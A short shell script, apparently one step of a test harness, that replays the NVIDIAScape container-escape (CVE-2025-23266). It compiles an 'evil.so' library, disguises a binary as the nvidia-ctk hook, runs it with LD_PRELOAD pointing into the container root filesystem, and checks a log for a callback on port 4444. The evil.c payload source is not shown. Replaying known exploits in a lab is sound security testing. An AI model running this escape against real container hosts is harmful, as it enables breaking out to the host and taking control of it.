# A6 NVIDIAScape (CVE-2025-23266) replay: createContainer hook runs with the image's LD_PRELOAD
mkdir -p "$H/rootfs-nvscape"
gcc -shared -fPIC -o "$H/rootfs-nvscape/evil.so" "$H/evil.c"
cp "$(type -P true)" "$H/bin/nvidia-ctk"           # any dynamically linked ELF named like the hook
"$H/bin/runc" -c '
  mkdir -p "$1/simctr-infer-a6"; echo $$ > "$1/simctr-infer-a6/cgroup.procs"   # "runc init" joins the container cgroup
  cd "$0/rootfs-nvscape"                               # hooks run with cwd = container rootfs
  nsenter --net=/run/netns/ctr-infer -- env LD_PRELOAD=/proc/self/cwd/evil.so \
      NVIDIA_VISIBLE_DEVICES=all NVIDIA_DRIVER_CAPABILITIES=all \
      "$0/bin/nvidia-ctk" hook enable-cuda-compat --host-driver-version=575.57.08
  true' "$H" "$CGBASE"
sleep 2; grep ':4444' "$H/sink.log" | tail -1
